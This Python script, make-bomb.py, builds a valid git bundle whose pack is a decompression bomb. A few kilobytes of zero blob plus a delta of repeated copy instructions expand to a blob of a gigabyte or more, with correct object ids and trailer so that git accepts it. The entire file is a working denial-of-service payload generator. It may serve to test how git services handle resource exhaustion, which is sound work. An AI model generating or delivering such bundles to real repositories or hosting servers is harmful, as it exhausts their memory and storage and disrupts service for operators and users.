#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""make-bomb.py OUT PARENT [BIG_MIB]: a valid git bundle (v2, one prerequisite,
ref HEAD) whose pack is a decompression bomb: a 16 MiB blob of zeros (a few
KB compressed) and an OFS_DELTA against it that rebuilds a BIG_MIB (default
1024) blob of zeros from 8 MiB copy instructions (a few hundred bytes).
git itself takes it: every id and the pack trailer are right."""
import hashlib
import sys
import zlib

out, parent = sys.argv[1], sys.argv[2]
big_mib = int(sys.argv[3]) if len(sys.argv) > 3 else 1024
SEED = 16 << 20
BIG = big_mib << 20
CHUNK = 8 << 20


def oid(kind, data_len, chunks):
    h = hashlib.sha1(b"%s %d\0" % (kind, data_len))
    for c in chunks:
        h.update(c)
    return h.digest()


def zeros(total):
    block = bytes(1 << 20)
    left = total
    while left:
        n = min(left, len(block))
        yield block[:n]
        left -= n


def obj_header(kind, size):
    b = [(kind << 4) | (size & 15)]
    size >>= 4
    while size:
        b[-1] |= 0x80
        b.append(size & 0x7F)
        size >>= 7
    return bytes(b)


def varint(n):
    b = []
    while True:
        c = n & 0x7F
        n >>= 7
        b.append(c | (0x80 if n else 0))
        if not n:
            return bytes(b)


def ofs(n):
    b = [n & 0x7F]
    n >>= 7
    while n:
        n -= 1
        b.insert(0, 0x80 | (n & 0x7F))
        n >>= 7
    return bytes(b)


seed_id = oid(b"blob", SEED, zeros(SEED))
big_id = oid(b"blob", BIG, zeros(BIG))
tree = b"100644 big.bin\0" + big_id + b"100644 seed.bin\0" + seed_id
tree_id = oid(b"tree", len(tree), [tree])
commit = (b"tree %s\nparent %s\nauthor A U Thor <author@example.com> 1700000000 +0000\n"
          b"committer C O Mitter <committer@example.com> 1700000000 +0000\n\nbomb\n"
          % (tree_id.hex().encode(), parent.encode()))
commit_id = oid(b"commit", len(commit), [commit])

# Delta: base size, result size, then copies of 8 MiB at offset 0 (cmd 0xc0: size byte 2).
delta = varint(SEED) + varint(BIG) + bytes([0xC0, 0x80]) * (BIG // CHUNK)

pack = bytearray(b"PACK" + (2).to_bytes(4, "big") + (4).to_bytes(4, "big"))
pack += obj_header(1, len(commit)) + zlib.compress(commit, 9)
pack += obj_header(2, len(tree)) + zlib.compress(tree, 9)
seed_at = len(pack)
pack += obj_header(3, SEED) + zlib.compress(bytes(SEED), 9)
delta_at = len(pack)
pack += obj_header(6, len(delta)) + ofs(delta_at - seed_at) + zlib.compress(delta, 9)
pack += hashlib.sha1(pack).digest()

with open(out, "wb") as f:
    f.write(b"# v2 git bundle\n-%s bomb parent\n%s HEAD\n\n" % (parent.encode(), commit_id.hex().encode()))
    f.write(pack)
